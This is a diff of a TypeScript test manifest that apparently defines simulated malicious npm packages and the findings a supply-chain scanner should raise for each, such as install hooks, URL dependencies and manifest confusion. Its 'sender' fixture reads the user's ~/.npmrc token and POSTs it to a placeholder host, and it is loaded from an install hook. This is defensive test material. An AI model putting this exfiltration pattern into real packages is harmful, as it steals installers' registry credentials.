@@ -1,19 +1,32 @@
 import { armed, called, finding, fires, hooked, pkg, quiet, type Simulant, text } from './simulant.ts';
 
 const stated = { phase: ['metadata', 'static'] } as const;
-const newHook = finding('install.lifecycle-hook', 'medium', [['signal', 'process.exec']], { baseline: 'new', phase: ['metadata', 'static', 'install'] });
+const newHook = finding('install.lifecycle-hook', 'medium', [['signal', 'process.exec']], {
+  baseline: 'new',
+  phase: ['metadata', 'static', 'install'],
+});
 const url = finding('dep.url-source', 'low', ['signal'], stated);
 const confused = finding('manifest.confusion', 'high', ['signal'], stated);
 const lost = finding('manifest.provenance-lost', 'medium', ['signal'], stated);
 const mismatch = finding('manifest.identity-mismatch', 'medium', ['signal'], stated);
-const attested = { dist: { attestations: { url: 'https://attest.acme.test/simulant', provenance: { predicateType: 'https://slsa.dev.test/provenance/v1' } } } };
+const attested = {
+  dist: {
+    attestations: {
+      url: 'https://attest.acme.test/simulant',
+      provenance: { predicateType: 'https://slsa.dev.test/provenance/v1' },
+    },
+  },
+};
 
 const sender = armed`
   const body = require('node:fs').readFileSync(require('node:os').homedir() + '/.npmrc');
   fetch('http://collect.simulant.invalid/n', { method: 'POST', body }).catch(() => {});
 `;
 const tokenLeft = (phase: 'install' | 'import') =>
-  finding('exfil.canary-egress', 'critical', ['canary.read', 'net.http', 'canary.egress'], { phase: [phase], baseline: 'new' });
+  finding('exfil.canary-egress', 'critical', ['canary.read', 'net.http', 'canary.egress'], {
+    phase: [phase],
+    baseline: 'new',
+  });
 
 const plain = (name: string, version = '1.0.1', more: Record<string, unknown> = {}) =>
   pkg(name, { 'index.js': text`module.exports = (rows) => rows.map(String);` }, { version, ...more });
@@ -45,7 +58,16 @@ export const manifest: readonly Simulant[] = [
     row: 'B38',
     kind: 'evasion',
     form: 'light',
-    packages: [hooked('b38-script', text`console.log('columns: ready');\nrequire('./lib/notice');`, { 'lib/notice.js': sender })],
+    packages: [
+      hooked(
+        'b38-script',
+        text`
+          console.log('columns: ready');
+          require('./lib/notice');
+        `,
+        { 'lib/notice.js': sender },
+      ),
+    ],
     previous: called('simulant-b38-script', '1.0.0', hooked('b38-script', text`console.log('columns: ready');`)),
     expect: fires('malicious', [tokenLeft('install')]),
     note: 'The manifest’s hook line is the same; what it loads is new.',
@@ -66,7 +88,10 @@ export const manifest: readonly Simulant[] = [
       ),
     ],
     previous: plain('b38-implicit', '1.0.0'),
-    expect: fires('suspicious', [newHook]),
+    expect: fires('suspicious', [
+      newHook,
+      finding('install.build-effect', 'high', [['signal', 'process.exec']], { phase: ['static', 'install'] }),
+    ]),
     note: 'No script is declared: a new binding.gyp makes npm run a build.',
   },
   {
@@ -84,7 +109,9 @@ export const manifest: readonly Simulant[] = [
     row: 'B38',
     kind: 'neighbour',
     form: 'plain',
-    packages: [plain('n38-none', '1.1.0', { scripts: { test: 'node --test', prepublishOnly: 'npm test', build: 'tsc -b' } })],
+    packages: [
+      plain('n38-none', '1.1.0', { scripts: { test: 'node --test', prepublishOnly: 'npm test', build: 'tsc -b' } }),
+    ],
     previous: plain('n38-none', '1.0.0'),
     expect: quiet(['install.lifecycle-hook', 'dep.', 'manifest.']),
     note: 'New scripts, none of which an installer runs.',
@@ -94,7 +121,11 @@ export const manifest: readonly Simulant[] = [
     row: 'B39',
     kind: 'positive',
     form: 'plain',
-    packages: [plain('b39-url', '1.0.1', { optionalDependencies: { 'simulant-b39-remote': 'http://files.simulant.invalid/remote-1.0.0.tgz' } })],
+    packages: [
+      plain('b39-url', '1.0.1', {
+        optionalDependencies: { 'simulant-b39-remote': 'http://files.simulant.invalid/remote-1.0.0.tgz' },
+      }),
+    ],
     expect: { findings: [url], never: [], levelAtMost: 'inconclusive' },
     note: 'Optional, so that the install goes on without it.',
   },
@@ -121,7 +152,11 @@ export const manifest: readonly Simulant[] = [
       pkg(
         'n39-alias',
         { 'index.js': text`module.exports = require('pad-alias').pad;` },
-        { dependencies: { 'pad-alias': 'npm:simulant-n39-pad@^1.0.0' }, homepage: 'https://acme.test/columns', bugs: { url: 'https://acme.test/bugs' } },
+        {
+          dependencies: { 'pad-alias': 'npm:simulant-n39-pad@^1.0.0' },
+          homepage: 'https://acme.test/columns',
+          bugs: { url: 'https://acme.test/bugs' },
+        },
       ),
       pkg('n39-pad', { 'index.js': text`exports.pad = (value, width) => String(value).padEnd(width);` }),
     ],
@@ -133,7 +168,9 @@ export const manifest: readonly Simulant[] = [
     row: 'B39',
     kind: 'positive',
     form: 'plain',
-    packages: [{ ...hooked('b39-hidden', text`console.log('simulant marker');`), packument: { scripts: {}, dependencies: {} } }],
+    packages: [
+      { ...hooked('b39-hidden', text`console.log('simulant marker');`), packument: { scripts: {}, dependencies: {} } },
+    ],
     expect: fires('suspicious', [confused]),
     note: 'The registry’s document shows no scripts; the tarball’s manifest has one.',
   },
@@ -166,7 +203,10 @@ export const manifest: readonly Simulant[] = [
     packages: [
       pkg(
         'b39-bin',
-        { 'cli.js': "#!/usr/bin/env node\nconsole.log('simulant marker');\n", 'safe.js': "#!/usr/bin/env node\nconsole.log('columns');\n" },
+        {
+          'cli.js': "#!/usr/bin/env node\nconsole.log('simulant marker');\n",
+          'safe.js': "#!/usr/bin/env node\nconsole.log('columns');\n",
+        },
         { bin: { columns: 'cli.js' } },
         { bin: { columns: 'safe.js' } },
       ),
@@ -234,7 +274,10 @@ export const manifest: readonly Simulant[] = [
     kind: 'evasion',
     form: 'light',
     packages: [
-      { ...plain('b39-empty', '1.0.1'), packument: { dist: { attestations: {} }, _npmUser: { name: 'somebody-else', email: 'x@simulant.invalid' } } },
+      {
+        ...plain('b39-empty', '1.0.1'),
+        packument: { dist: { attestations: {} }, _npmUser: { name: 'somebody-else', email: 'x@simulant.invalid' } },
+      },
     ],
     previous: { ...plain('b39-empty', '1.0.0'), packument: attested },
     expect: { findings: [lost], never: [] },
